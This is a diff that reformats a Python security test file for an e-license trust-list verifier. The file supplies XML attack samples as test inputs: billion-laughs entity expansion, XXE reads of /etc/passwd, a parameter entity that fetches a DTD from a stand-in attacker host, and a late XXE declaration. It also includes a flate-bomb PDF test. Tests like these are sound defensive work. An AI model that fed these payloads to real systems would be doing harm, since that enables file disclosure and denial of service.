@@ -110,13 +110,17 @@ def test_attack_deep_cbor_in_bundle_and_status_list(verifier) -> None:  # type: 
 
 # -- XML trust lists ----------------------------------------------------------------------------
 
-LAUGHS = b"""<?xml version="1.0"?>
+LAUGHS = (
+    b"""<?xml version="1.0"?>
 <!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">
-""" + b"".join(
-    b'<!ENTITY lol%d "%s">\n' % (i, b"".join(b"&lol%s;" % (b"" if i == 1 else b"%d" % (i - 1)) for _ in range(10)))
-    for i in range(1, 10)
-) + b"""]>
+"""
+    + b"".join(
+        b'<!ENTITY lol%d "%s">\n' % (i, b"".join(b"&lol%s;" % (b"" if i == 1 else b"%d" % (i - 1)) for _ in range(10)))
+        for i in range(1, 10)
+    )
+    + b"""]>
 <NationalTrustList xmlns="urn:elicense:trust-list:1">&lol9;</NationalTrustList>"""
+)
 
 XXE_FILE = b"""<?xml version="1.0"?>
 <!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
@@ -126,15 +130,18 @@ XXE_PARAMETER = b"""<?xml version="1.0"?>
 <!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
 <NationalTrustList xmlns="urn:elicense:trust-list:1"/>"""
 
-XXE_LATE = b"<NationalTrustList xmlns='urn:elicense:trust-list:1'>" + b" " * 5000 + (
-    b"<!ENTITY a SYSTEM 'file:///etc/passwd'>&a;</NationalTrustList>"
+XXE_LATE = (
+    b"<NationalTrustList xmlns='urn:elicense:trust-list:1'>"
+    + b" " * 5000
+    + (b"<!ENTITY a SYSTEM 'file:///etc/passwd'>&a;</NationalTrustList>")
 )  # a declaration past the first 4 KiB
 
 UNDECLARED = b"<NationalTrustList xmlns='urn:elicense:trust-list:1'>&undeclared;</NationalTrustList>"
 
 
 @pytest.mark.parametrize(
-    "data", [LAUGHS, XXE_FILE, XXE_PARAMETER, XXE_LATE, UNDECLARED],
+    "data",
+    [LAUGHS, XXE_FILE, XXE_PARAMETER, XXE_LATE, UNDECLARED],
     ids=["billion-laughs", "xxe-file", "xxe-parameter-entity", "xxe-after-4k", "undeclared-entity"],
 )
 def test_attack_xml_entities(world, data: bytes) -> None:  # type: ignore[no-untyped-def]
@@ -186,8 +193,9 @@ def test_attack_flate_bomb_in_pdf_incremental_update(verifier, signed_pdf) -> No
 
     def edit(writer) -> None:  # type: ignore[no-untyped-def]
         page = writer.root["/Pages"]["/Kids"][0].get_object()
-        stream = generic.StreamObject({generic.NameObject("/Filter"): generic.NameObject("/FlateDecode")},
-                                      encoded_data=bomb)
+        stream = generic.StreamObject(
+            {generic.NameObject("/Filter"): generic.NameObject("/FlateDecode")}, encoded_data=bomb
+        )
         page[generic.NameObject("/Contents")] = writer.add_object(stream)
         writer.update_container(page)
 
